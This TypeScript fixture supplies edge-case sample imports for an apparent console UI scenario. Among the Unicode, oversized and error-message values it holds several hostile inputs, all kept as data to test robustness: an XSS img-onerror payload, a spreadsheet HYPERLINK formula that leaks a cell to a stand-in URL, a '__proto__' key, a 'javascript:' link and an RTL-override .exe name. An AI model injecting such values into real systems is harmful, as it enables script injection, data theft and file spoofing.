import type { NewImport } from '../import-store.ts'

type Oddity = Partial<
  Pick<
    NewImport,
    'status' | 'entity' | 'format' | 'title' | 'count' | 'metadata' | 'failedReason' | 'failedMessage'
  >
>

const cities = [
  'Amsterdam',
  'Bogotá',
  'Cape Town',
  'Dublin',
  'Edinburgh',
  'Fukuoka',
  'Genoa',
  'Helsinki',
  'İzmir',
]
const longTitle = `Merged attendee lists: ${Array(6).fill(cities.join(', ')).join(', ')}`.slice(0, 300)

const crm = { owner: 'j.okafor', team: 'sales-ops', source: 'salesforce' }
const vendors = { owner: 't.lindqvist', team: 'procurement', source: 'vendor portal' }

const manyProblems = [
  'The file could not be read. 14 problems were found; the first 6 are:',
  ...[18, 19, 20, 211, 212, 1_480].map(
    (row, index) => `  ${index + 1}. row ${row}: expected 11 columns, found ${index % 2 ? 13 : 10}`,
  ),
  '',
  'Context (row 18, shortened):',
  '  "Lindqvist, Tove";"Head of Procurement";"Nordic Timber AB; Skellefteå";;;"https://example.com/people/tove?ref=' +
    'a-very-long-tracking-parameter-that-has-no-place-to-break-anywhere-in-the-middle-of-it-whatsoever-0123456789"',
  '',
  'A field that holds the separator must be put in double quotes, and a double quote inside such a field is doubled.',
  'Correct the file, create a new import, and upload it again; this one is not retried.',
].join('\n')

/**
 * The odd values in the scenario "Odd data", by the rank of the sample import (0 is the newest): hostile texts, values at their
 * limits, and undocumented values. No sane account has them, but the console must cope with them.
 */
export const oddities: ReadonlyMap<number, Oddity> = new Map<number, Oddity>([
  [11, { status: 'canceled' }],
  [12, { failedReason: 'invalid_file_content', failedMessage: null }],
  [14, { title: '🚀 Launch partners 🇩🇪 🇫🇷 — wave 2 👩‍💻', entity: { type: 'company' }, metadata: crm }],
  [
    16,
    {
      failedReason: 'quota_exceeded',
      failedMessage: 'The plan allows 10000 rows a month; 9810 were used, and this import has 289.',
    },
  ],
  [18, { title: 'قائمة العملاء المحتملين — الربع الأول (CRM)', entity: { type: 'person' }, metadata: crm }],
  [
    20,
    {
      failedReason: 'missing_identifier',
      failedMessage: 'No identifier was named, and none of the 7 columns looks like one.',
    },
  ],
  [24, { failedReason: 'invalid_format', failedMessage: manyProblems, count: 1_612 }],
  [26, { title: longTitle, entity: { type: 'person' }, metadata: { owner: 'mei.lin', team: 'marketing' } }],
  [29, { title: '<img src=x onerror="alert(document.domain)"> leads' }],
  [31, { status: 'archived' }],
  [35, { count: 0 }],
  [38, { count: 2_000_000, metadata: {} }],
  [41, { title: 'רשימת ספקים מאושרים — Q2 (EMEA)', entity: { type: 'company' }, metadata: vendors }],
  [44, { title: '=HYPERLINK("https://example.com/?leak="&A1,"Open the list")' }],
  [
    47,
    {
      metadata: JSON.parse(
        // From text, because in a literal `__proto__` would set the prototype.
        '{"__proto__":"kept as a plain key","constructor":"data-team","link":"javascript:alert(1)","note":"<b>bold</b>"}',
      ) as Record<string, string>,
    },
  ],
  [50, { title: 'Invoices \u202Egnp.exe\u202C (scanned)' }],
  [53, { metadata: { note: 'Kept for the audit. '.repeat(50).slice(0, 1000), owner: 'data-team' } }],
])
